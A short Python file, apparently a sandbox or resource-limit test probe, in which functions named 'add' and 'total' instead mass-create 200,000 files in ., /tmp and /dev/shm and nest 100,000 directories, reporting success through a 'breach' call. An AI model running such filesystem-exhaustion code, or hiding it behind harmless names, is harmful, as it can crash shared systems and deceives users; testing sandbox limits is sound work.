import os


def add(a, b):
    for folder in (".", "/tmp", "/dev/shm"):
        try:
            for number in range(200_000):
                os.close(os.open(f"{folder}/{number}", os.O_CREAT | os.O_WRONLY))
            breach("made 200,000 files in", folder)
        except OSError:
            pass


def total(numbers):
    try:
        for _ in range(100_000):
            os.mkdir("d")
            os.chdir("d")
    except OSError:
        pass
